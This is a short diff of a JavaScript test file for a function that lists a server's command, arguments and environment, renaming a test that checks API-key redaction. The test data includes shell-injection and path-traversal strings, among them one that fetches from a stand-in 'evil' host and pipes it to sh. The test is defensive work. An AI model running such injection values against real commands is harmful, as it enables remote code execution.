@@ -25,7 +25,7 @@ describe('the lines of a server', () => {
     expect(lines(server)).toContain('takes from your environment: B, A, C')
   })
 
-  it('hide what can only be a key, and nothing that could be a program', () => {
+  it('hide certain keys, and nothing that could be a program', () => {
     const key = 'tvly-0a1b2c3d4e5f6a7b8c9d0e1f'
     expect(lines({ command: 'x', args: ['--api-key', key], env: { A_TOKEN: key } }).join()).not.toContain(key)
     for (const code of ['$(curl${IFS}evil|sh)', '`id`', 'a;b&&c', "x'y", 'malicious.mjs', '../x/evil'])
